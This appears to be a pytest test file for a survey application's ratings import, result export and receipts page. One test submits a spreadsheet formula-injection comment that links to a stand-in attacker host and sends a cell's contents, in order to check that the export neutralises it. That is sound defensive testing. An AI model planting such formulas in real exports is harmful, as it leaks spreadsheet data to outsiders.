"""Organizational ratings in, a closed round's files out, and the receipts page after publication."""

from __future__ import annotations

import csv
import io
import json
import re
from collections import Counter
from pathlib import Path

import pytest
from sqlalchemy import select

from survey.extensions import db
from survey.models import Ballot, OrgRating, Subject

from .conftest import receipt_of

GOOD_RATINGS = "subject,rater,score\nB01,张三,92\nB01,李四,88.5\nB02,张三,75\n"


@pytest.fixture
def outdir(tmp_path: Path) -> Path:
    """A folder for the files under test (``tmp_path`` also holds the app's instance folder)."""
    folder = tmp_path / "files"
    folder.mkdir()
    return folder


def write(folder: Path, name: str, text: str, *, bom: bool = False) -> Path:
    path = folder / name
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8"))
    return path


def stored_ratings() -> set[tuple[str, str, float]]:
    db.session.rollback()
    rows = db.session.execute(
        select(Subject.code, OrgRating.rater, OrgRating.score).join(Subject, Subject.id == OrgRating.subject_id)
    )
    return {tuple(row) for row in rows}


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name} must start with a UTF-8 byte order mark"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def only_line(result) -> str:  # noqa: ANN001
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1, result.output
    return lines[0]


# --- org import --------------------------------------------------------------------------


@pytest.mark.parametrize("bom", [False, True], ids=["plain UTF-8", "UTF-8 with BOM"])
def test_org_import_stores_the_ratings(runner, make_round, spec, outdir, bom) -> None:  # noqa: ANN001
    make_round(spec)
    path = write(outdir, "ratings.csv", GOOD_RATINGS, bom=bom)

    result = runner.invoke(args=["org", "import", "r2012", str(path)])

    assert result.exit_code == 0, result.output
    assert "3 organizational ratings" in result.output
    assert stored_ratings() == {("B01", "张三", 92.0), ("B01", "李四", 88.5), ("B02", "张三", 75.0)}


def test_org_import_again_replaces_the_ratings(runner, make_round, spec, outdir) -> None:  # noqa: ANN001
    make_round(spec)
    runner.invoke(args=["org", "import", "r2012", str(write(outdir, "first.csv", GOOD_RATINGS))])

    result = runner.invoke(args=["org", "import", "r2012", str(write(outdir, "second.csv",
                                                                      "subject,rater,score\r\nB02,王五,60\r\n"))])

    assert result.exit_code == 0, result.output
    assert stored_ratings() == {("B02", "王五", 60.0)}


BAD_RATINGS = {
    "unknown subject": ("subject,rater,score\nB01,张三,90\nB99,李四,80\n", 3, "subject 'B99' is not in the spec"),
    "score 101": ("subject,rater,score\nB01,张三,101\n", 2, "outside 0–100"),
    "negative score": ("subject,rater,score\nB01,张三,-1\n", 2, "outside 0–100"),
    "score abc": ("subject,rater,score\nB01,张三,90\nB02,张三,abc\n", 3, "'abc' is not a number"),
    "wrong header": ("code,rater,score\nB01,张三,90\n", 1, "missing column(s) subject; expected subject,rater,score"),
    "duplicate rater": ("subject,rater,score\nB01,张三,90\nB02,张三,80\nB01,张三,85\n", 4,
                        "rater '张三' rates subject 'B01' twice"),
    "empty rater": ("subject,rater,score\nB01,,90\n", 2, "empty rater"),
    "missing field": ("subject,rater,score\nB01,张三\n", 2, "expected 3 fields"),
    "rater over 100 characters": ("subject,rater,score\nB01,张三,90\nB02," + "李" * 101 + ",80\n", 3,
                                  "longer than 100 characters"),
    "NUL in a rater": ("subject,rater,score\nB01,张\x00三,90\n", 2, "control character"),
}


@pytest.mark.parametrize("text, line, says", BAD_RATINGS.values(), ids=BAD_RATINGS.keys())
def test_a_bad_ratings_file_is_refused_naming_file_and_line_and_changes_nothing(
    runner, make_round, spec, outdir, text, line, says  # noqa: ANN001
) -> None:
    make_round(spec)
    runner.invoke(args=["org", "import", "r2012", str(write(outdir, "good.csv", GOOD_RATINGS))])
    before = stored_ratings()
    path = write(outdir, "bad.csv", text)

    result = runner.invoke(args=["org", "import", "r2012", str(path)])

    assert result.exit_code != 0
    assert f"{path}:{line}: " in only_line(result)
    assert says in only_line(result)
    assert stored_ratings() == before


def test_org_import_into_a_published_round_is_refused(runner, make_round, spec, outdir) -> None:  # noqa: ANN001
    make_round(spec, status="published")

    result = runner.invoke(args=["org", "import", "r2012", str(write(outdir, "ratings.csv", GOOD_RATINGS))])

    assert result.exit_code != 0
    assert "published" in only_line(result)
    assert stored_ratings() == set()


# --- export ------------------------------------------------------------------------------


@pytest.mark.parametrize("status", ["draft", "open"])
def test_export_is_refused_while_the_round_is_sealed(runner, make_round, spec, outdir, status) -> None:  # noqa: ANN001
    make_round(spec, status=status)
    out = outdir / "export"

    result = runner.invoke(args=["export", "r2012", "--out", str(out)])

    assert result.exit_code != 0
    assert f"round 'r2012' is {status}" in only_line(result)
    assert not out.exists() or list(out.iterdir()) == []


BALLOTS = [
    ("staff", {"a:B01:service": "satisfied", "a:B01:conduct": "unknown", "a:B02:service": "basic",
               "c:B02": "机关办事效率有待提高，建议推行“一站式”服务"}),
    ("staff", {"a:B02:conduct": "dissatisfied"}),
    ("students", {"a:B01:service": "basic", "a:B01:conduct": "satisfied", "c:B01": "辅导员很负责, \"点赞\""}),
]


@pytest.fixture
def closed_round(app, runner, make_round, spec, issue_codes, submit, outdir):  # noqa: ANN001, ANN201
    """r2012 with the three BALLOTS cast and ratings imported, then closed; its receipts."""
    round_ = make_round(spec)
    codes = iter(issue_codes(round_, "staff", 2))
    receipts = []
    for group, answers in BALLOTS:
        url = f"/b/{next(codes)}" if group == "staff" else "/r/r2012/students"
        response = submit(url, answers, with_client=app.test_client())
        assert response.status_code == 200
        receipts.append(receipt_of(response))
    assert runner.invoke(args=["org", "import", "r2012", str(write(outdir, "ratings.csv", GOOD_RATINGS))]).exit_code == 0
    assert runner.invoke(args=["rounds", "close", "r2012"]).exit_code == 0
    return receipts


def export(runner, folder: Path) -> None:  # noqa: ANN001
    result = runner.invoke(args=["export", "r2012", "--out", str(folder)])
    assert result.exit_code == 0, result.output


def test_export_writes_the_answers_as_they_were_submitted(runner, closed_round, outdir) -> None:  # noqa: ANN001
    export(runner, outdir / "export")

    header, *rows = read_csv(outdir / "export" / "answers.csv")
    assert header == ["response_id", "group", "subject", "item", "answer"]
    by_response: dict[str, set[tuple[str, str, str, str]]] = {}
    for response_id, *answer in rows:
        by_response.setdefault(response_id, set()).add(tuple(answer))
    assert Counter(frozenset(a) for a in by_response.values()) == Counter([
        frozenset({("staff", "B01", "service", "satisfied"), ("staff", "B01", "conduct", "unknown"),
                   ("staff", "B02", "service", "basic")}),
        frozenset({("staff", "B02", "conduct", "dissatisfied")}),
        frozenset({("students", "B01", "service", "basic"), ("students", "B01", "conduct", "satisfied")}),
    ])
    assert len(rows) == 6


def test_exported_response_ids_are_not_the_stored_ballot_ids(runner, closed_round, outdir) -> None:  # noqa: ANN001
    export(runner, outdir / "first")
    export(runner, outdir / "second")

    first = {row[0] for row in read_csv(outdir / "first" / "answers.csv")[1:]}
    second = {row[0] for row in read_csv(outdir / "second" / "answers.csv")[1:]}
    db.session.rollback()
    from survey.models import Receipt

    stored = set(db.session.scalars(select(Ballot.id))) | set(db.session.scalars(select(Receipt.receipt)))
    assert len(first) == 3
    assert first.isdisjoint(stored)
    assert first.isdisjoint(second)  # drawn afresh for every export
    for response_id in first:
        assert not any(response_id in s or s in response_id for s in stored)


def test_export_writes_comments_without_a_response_id(runner, closed_round, outdir) -> None:  # noqa: ANN001
    export(runner, outdir)

    header, *rows = read_csv(outdir / "comments.csv")
    assert header == ["subject", "group", "text"]
    assert sorted(map(tuple, rows)) == [
        ("B01", "students", "辅导员很负责, \"点赞\""),
        ("B02", "staff", "机关办事效率有待提高，建议推行“一站式”服务"),
    ]


def test_export_writes_the_org_ratings_and_the_spec(runner, closed_round, outdir, spec) -> None:  # noqa: ANN001
    export(runner, outdir)

    header, *rows = read_csv(outdir / "org.csv")
    assert header == ["subject", "rater", "score"]
    assert sorted(map(tuple, rows)) == [("B01", "张三", "92"), ("B01", "李四", "88.5"), ("B02", "张三", "75")]
    assert json.loads((outdir / "spec.json").read_text(encoding="utf-8-sig")) == spec
    assert sorted(p.name for p in outdir.iterdir()) == [
        "answers.csv", "audit_head.txt", "comments.csv", "org.csv", "ratings.csv", "spec.json",
    ]


def test_a_published_round_exports_too(runner, closed_round, outdir) -> None:  # noqa: ANN001
    assert runner.invoke(args=["rounds", "publish", "r2012"]).exit_code == 0

    export(runner, outdir / "export")

    assert len(read_csv(outdir / "export" / "answers.csv")) == 1 + 6


def test_export_of_an_unknown_round_is_refused(runner, outdir) -> None:  # noqa: ANN001
    result = runner.invoke(args=["export", "nosuch", "--out", str(outdir / "export")])

    assert result.exit_code != 0
    assert "no round 'nosuch'" in only_line(result)


# --- the receipts page -------------------------------------------------------------------

LISTED = re.compile(r"<li>([^<]+)</li>")


@pytest.mark.parametrize("status", ["draft", "open", "closed"])
def test_receipts_are_not_listed_before_publication(client, make_round, spec, submit, status) -> None:  # noqa: ANN001
    make_round(spec, status="open")
    receipt = receipt_of(submit("/r/r2012/students", {"a:B01:service": "satisfied"}))
    if status == "draft":
        make_round(dict(spec, slug="draft"), status="draft")
    elif status == "closed":
        from survey.rounds.lifecycle import transition
        from survey.rounds.services import get_round

        transition(get_round("r2012"), "close")
        db.session.commit()
    slug = "draft" if status == "draft" else "r2012"

    response = client.get(f"/r/{slug}/receipts")

    assert response.status_code == 404
    assert receipt not in response.get_data(as_text=True)


def test_receipts_of_an_unknown_round_are_not_found(client) -> None:  # noqa: ANN001
    assert client.get("/r/nosuch/receipts").status_code == 404


def test_after_publication_every_receipt_is_listed_sorted(client, runner, closed_round) -> None:  # noqa: ANN001
    assert runner.invoke(args=["rounds", "publish", "r2012"]).exit_code == 0

    response = client.get("/r/r2012/receipts")

    assert response.status_code == 200
    listed = LISTED.findall(response.get_data(as_text=True))
    assert listed == sorted(closed_round)
    assert len(set(listed)) == 3


def test_the_receipts_page_gives_the_number_of_uniform_ballots_not_which_they_were(
    app, client, runner, make_round, spec, issue_codes, submit
) -> None:  # noqa: ANN001
    """A 废票 (three or more answers, all one level) is not counted when the scheme says so. Every
    receipt is listed; the page says how many ballots were 废票, but not which: receipts are
    kept apart from ballots, so that a receipt someone is shown is no handle on their answers."""
    spec["scheme"]["uniform_ballots"] = "exclude"
    round_ = make_round(spec)
    first, second = issue_codes(round_, "staff", 2)
    all_satisfied = {f"a:{s}:{i}": "satisfied" for s in ("B01", "B02") for i in ("service", "conduct")}
    spoiled = receipt_of(submit(f"/b/{first}", all_satisfied, with_client=app.test_client()))
    counted = receipt_of(submit(f"/b/{second}", {**all_satisfied, "a:B02:conduct": "basic"},
                                with_client=app.test_client()))
    two_alike = receipt_of(submit("/r/r2012/students", {"a:B01:service": "basic", "a:B01:conduct": "basic"}))
    for action in ("close", "publish"):
        assert runner.invoke(args=["rounds", action, "r2012"]).exit_code == 0

    html = client.get("/r/r2012/receipts").get_data(as_text=True)

    assert LISTED.findall(html) == sorted([spoiled, counted, two_alike])
    (note,) = re.findall(r'id="spoiled">(.*?)</p>', html, re.S)
    assert "共有 <b>1</b> 张废票" in note  # 2 answers alike is not a 废票
    assert not any(r in note for r in (spoiled, counted, two_alike))


def test_a_comment_that_looks_like_a_formula_is_exported_as_text(app, runner, make_round, spec, submit, outdir) -> None:  # noqa: ANN001
    """Open QRs let anyone write a comment; Excel must not run one that starts with '='."""
    make_round(spec)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    assert submit("/r/r2012/students", {"a:B01:service": "basic", "c:B01": formula}).status_code == 200
    assert runner.invoke(args=["rounds", "close", "r2012"]).exit_code == 0

    export(runner, outdir)

    header, *rows = read_csv(outdir / "comments.csv")
    assert rows == [["B01", "students", "'" + formula]]
